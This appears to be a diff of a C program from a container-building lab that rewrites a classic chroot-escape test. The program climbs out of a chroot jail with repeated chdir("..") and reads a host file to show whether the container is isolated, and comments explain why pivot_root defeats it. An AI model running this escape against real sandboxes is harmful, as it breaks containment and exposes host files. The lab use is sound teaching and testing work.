@@ -1,37 +1,70 @@
 /*
- * The classic chroot escape (lab 04). chroot(2) changes only where "/"
- * resolves for this process; it does not move the current directory. So:
- *   1. chroot into a subdirectory, keeping our cwd OUTSIDE the new root;
- *   2. chdir("..") until we reach the real root of the mount namespace
- *      (".." at a chroot's root stops there, but we are not under it);
- *   3. chroot(".") there: "/" is the host's again.
- * Needs CAP_SYS_CHROOT. Under pivot_root there is nothing above the new root
- * left in the mount namespace, so step 2 stops at the container's own "/".
+ * Lab 04: the classic chroot escape (see rubber-docker's breakout.py).
  *
- * usage: breakout HOST_PATH   → exit 0 "escaped: …" if HOST_PATH is visible, 1 "contained: …" if not
+ *   breakout FILE   tries to leave the root it was started in, then to read
+ *                   FILE (a path on the *host*). Prints ESCAPED and the file's
+ *                   first line if it could, CONTAINED if not.
+ *
+ * Why it works under chroot: chroot(2) changes the root directory of the
+ * calling process and nothing else. The kernel stops ".." at a process's
+ * root only when the walk passes *through* that root. So:
+ *   1. chroot into a subdirectory, WITHOUT chdir into it: our working
+ *      directory is now outside our own root;
+ *   2. chdir("..") again and again: the walk never meets our root, so it
+ *      climbs to the real top of the mount tree;
+ *   3. chroot(".") there: we are back at the host's /.
+ * It needs CAP_SYS_CHROOT, which Docker's default set keeps.
+ *
+ * Why it fails after pivot_root: pivot_root(2) swaps the mount at / itself,
+ * and tiny-docker then detaches the old root (umount2 MNT_DETACH). The host's
+ * tree is no longer in this mount namespace at all: ".." from the container's
+ * top is the container's top. There is nothing above to climb to.
+ *
+ * Built static (cc -static) so it runs in any rootfs.
  */
+#include <errno.h>
 #include <stdio.h>
+#include <string.h>
 #include <sys/stat.h>
 #include <unistd.h>
 
 int main(int argc, char **argv) {
-  const char *marker = argc > 1 ? argv[1] : "/etc/hostname";
-  mkdir("/.breakout", 0700);
-  if (chroot("/.breakout") != 0) { /* cwd stays where it was: outside the new root */
-    perror("breakout: chroot(\"/.breakout\")");
+  if (argc != 2) {
+    fprintf(stderr, "usage: breakout FILE-ON-THE-HOST\n");
     return 2;
   }
+  const char *jail = "/tmp/.breakout-jail";
+  if (mkdir("/tmp", 0755) < 0 && errno != EEXIST) perror("mkdir /tmp");
+  if (mkdir(jail, 0700) < 0 && errno != EEXIST) {
+    fprintf(stderr, "breakout: mkdir %s: %s\n", jail, strerror(errno));
+    return 2;
+  }
+  /* 1. a new root below us; our cwd ("/") stays outside it */
+  if (chroot(jail) < 0) {
+    fprintf(stderr, "breakout: chroot %s: %s (no CAP_SYS_CHROOT?)\n", jail, strerror(errno));
+    return 2;
+  }
+  /* 2. climb: each ".." is checked against our root, which we never pass */
   for (int i = 0; i < 256; i++) {
-    if (chdir("..") != 0) break;
+    if (chdir("..") < 0) {
+      fprintf(stderr, "breakout: chdir ..: %s\n", strerror(errno));
+      return 2;
+    }
   }
-  if (chroot(".") != 0) {
-    perror("breakout: chroot(\".\")");
+  /* 3. make the top we reached our root */
+  if (chroot(".") < 0) {
+    fprintf(stderr, "breakout: chroot .: %s\n", strerror(errno));
     return 2;
   }
-  if (access(marker, F_OK) == 0) {
-    printf("escaped: the host's %s is visible\n", marker);
-    return 0;
+  FILE *f = fopen(argv[1], "r");
+  if (!f) {
+    printf("CONTAINED: %s is not visible (%s)\n", argv[1], strerror(errno));
+    return 1;
   }
-  printf("contained: %s is not visible\n", marker);
-  return 1;
+  char line[256] = "";
+  if (!fgets(line, sizeof line, f)) line[0] = 0;
+  fclose(f);
+  line[strcspn(line, "\n")] = 0;
+  printf("ESCAPED: read the host's %s: %s\n", argv[1], line);
+  return 0;
 }
